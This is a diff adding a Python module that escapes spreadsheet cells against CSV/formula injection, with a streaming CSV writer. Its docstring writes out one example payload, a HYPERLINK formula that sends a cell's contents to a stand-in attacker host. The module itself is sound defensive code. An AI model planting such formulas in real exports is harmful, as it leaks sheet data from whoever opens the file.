@@ -1,0 +1,72 @@
+"""Cells bound for a spreadsheet (CSV now, xlsx later): text stays text, numbers stay numbers.
+
+Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (and,
+after a tab, carriage return or line feed, whatever follows) as a formula: a budget line named
+`=HYPERLINK("https://evil.example/?"&A1,"Open")` would leak the sheet, `@SUM(1)` compute, and
+DDE payloads run programs. OWASP's advice (CSV Injection): put a single quote before any such
+text, and quote every text cell. `safe_cell` does the first for every export; `CsvSheet` does
+both for CSV. An openpyxl writer uses `safe_cell` for each value too: openpyxl itself stores a
+string starting with `=` as a formula, and the quoted string as plain text.
+
+Numbers (int, Decimal, float) are never changed, so `-48000` stays a number a sheet can sum;
+text that only looks like a negative number ("-48 000 kr") is text and is neutralised.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable, Iterator
+from decimal import Decimal
+from typing import Any
+
+#: What a spreadsheet may read as the start of a formula (OWASP, plus line feed).
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")
+#: A byte-order mark first, so that spreadsheet programs read the file as UTF-8.
+BOM = "\ufeff"
+
+Cell = str | int | float | Decimal
+
+
+def safe_cell(value: Any) -> Cell:
+    """The value as a spreadsheet cell: numbers as they are, None as empty text, any other
+    value as text with a leading `'` when it could be read as a formula."""
+    if isinstance(value, bool):  # a bool is an int to Python, a word to a reader
+        value = str(value).lower()
+    if isinstance(value, int | float | Decimal):
+        return value
+    text = "" if value is None else str(value)
+    return "'" + text if text.startswith(FORMULA_LEADS) else text
+
+
+def safe_row(values: Iterable[Any]) -> list[Cell]:
+    return [safe_cell(v) for v in values]
+
+
+class CsvSheet:
+    """A CSV file written a batch of rows at a time (for streamed exports): every text cell
+    neutralised and quoted, numbers unquoted; the first chunk starts with the BOM."""
+
+    def __init__(self) -> None:
+        self._out = io.StringIO()
+        self._writer = csv.writer(self._out, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
+        self._started = False
+
+    def rows(self, rows: Iterable[Iterable[Any]]) -> str:
+        """The CSV text of these rows (with the BOM if nothing was written before)."""
+        self._out.seek(0)
+        self._out.truncate()
+        self._writer.writerows(safe_row(row) for row in rows)
+        text = self._out.getvalue()
+        if not self._started:
+            self._started = True
+            return BOM + text
+        return text
+
+
+def csv_chunks(header: Iterable[str], batches: Iterable[Iterable[Iterable[Any]]]) -> Iterator[str]:
+    """A whole CSV export as chunks: the header row, then each batch of rows."""
+    sheet = CsvSheet()
+    yield sheet.rows([header])
+    for batch in batches:
+        yield sheet.rows(batch)
